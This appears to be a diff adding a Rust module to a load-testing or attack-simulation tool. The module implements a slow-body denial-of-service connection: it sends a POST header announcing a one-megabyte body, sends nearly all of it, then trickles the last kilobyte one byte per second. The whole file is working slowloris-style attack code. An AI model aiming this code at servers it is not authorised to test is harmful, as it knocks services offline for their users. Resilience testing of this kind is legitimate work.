@@ -1,0 +1,75 @@
+//! Connections that announce a megabyte, send nearly all of it, and then take their time.
+
+use super::crew::{Attacker, Crew, Line, Taken, status};
+use std::io;
+use std::sync::Arc;
+use std::time::Duration;
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::TcpStream;
+use tokio::net::tcp::{ReadHalf, WriteHalf};
+
+/// What is announced: the most that a server takes.
+const ANNOUNCED: usize = 1 << 20;
+/// What is kept back and sent byte by byte.
+const KEPT: usize = 1 << 10;
+/// How long each of these bytes is waited for.
+const EACH: Duration = Duration::from_secs(1);
+
+static SPACES: [u8; ANNOUNCED] = [b' '; ANNOUNCED];
+
+/// Somebody who holds on to a body.
+pub struct Holder {
+    pub attacker: Arc<Attacker>,
+}
+
+impl Holder {
+    async fn hold(&self, crew: &Crew) -> io::Result<Taken> {
+        let mut stream: TcpStream = self.attacker.address.connect().await?;
+        let head = format!(
+            "POST /api/games HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\n\
+             Content-Length: {ANNOUNCED}\r\n\r\n",
+            self.attacker.address.authority(),
+        );
+        let (mut reader, mut writer) = stream.split();
+        let mut is_counted = false;
+        let sent = tokio::select! {
+            sent = send_slowly(&mut writer, &head, || {
+                crew.score.sent.up();
+                is_counted = true;
+            }) => sent.map(|()| Taken::Done),
+            answer = answer(&mut reader) => answer,
+        };
+        if !is_counted {
+            crew.score.sent.up();
+        }
+        sent
+    }
+}
+
+/// Sends a request without ever coming to its end.
+async fn send_slowly(
+    writer: &mut WriteHalf<'_>,
+    head: &str,
+    nearly_all: impl FnOnce(),
+) -> io::Result<()> {
+    writer.write_all(head.as_bytes()).await?;
+    writer.write_all(&SPACES[KEPT..]).await?;
+    nearly_all();
+    for _ in 0..KEPT {
+        tokio::time::sleep(EACH).await;
+        writer.write_all(b" ").await?;
+    }
+    Ok(())
+}
+
+async fn answer(reader: &mut ReadHalf<'_>) -> io::Result<Taken> {
+    let mut head = [0; 16];
+    let read = reader.read(&mut head).await?;
+    Ok(status(&head[..read]))
+}
+
+impl Line for Holder {
+    async fn once(&mut self, crew: &Crew) -> Taken {
+        self.hold(crew).await.unwrap_or(Taken::Unanswered)
+    }
+}
